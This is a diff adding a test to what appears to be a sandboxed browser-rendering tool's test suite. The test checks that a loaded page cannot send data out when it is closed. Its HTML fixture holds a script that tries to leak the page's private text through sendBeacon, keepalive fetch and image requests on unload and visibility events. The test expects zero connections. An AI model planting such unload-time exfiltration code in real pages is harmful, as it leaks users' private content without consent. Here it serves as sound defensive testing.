@@ -299,6 +299,28 @@ describe.skipIf(!hasChromium)('a page on this machine, in a browser as it is', (
   })
 })
 
+describe.skipIf(!hasChromium)('a page that is left', () => {
+  test('sends nothing past the interception in its farewell, nor asks a payment method before', async () => {
+    const to = `https://127.0.0.1:${rawPort}`
+    const html = `<p>Private words of my file.</p><script>
+      const say = (name) => {
+        navigator.sendBeacon('${to}/beacon-' + name, document.querySelector('p').textContent)
+        fetch('${to}/fetch-' + name, { method: 'POST', body: name, mode: 'no-cors', keepalive: true }).catch(() => {})
+        new Image().src = '${to}/image-' + name
+      }
+      for (const name of ['pagehide', 'unload', 'beforeunload']) addEventListener(name, () => say(name))
+      document.addEventListener('visibilitychange', () => say('hidden'))
+      document.querySelector('p').textContent += typeof PaymentRequest
+    </script>`
+    for (let round = 0; round < 3; round++) {
+      const loaded = await load({ kind: 'html', html }, { mode: 'rendered', idle: 200 })
+      expect(text(loaded)).toContain('Private words of my file.undefined')
+    }
+    await new Promise((resolve) => setTimeout(resolve, 1000))
+    expect(connections).toBe(0)
+  })
+})
+
 describe.skipIf(!hasChromium)('many pages at once', () => {
   test('wait for each other: no more are loaded at the same time than the machine has cores, within limits', async () => {
     let open = 0
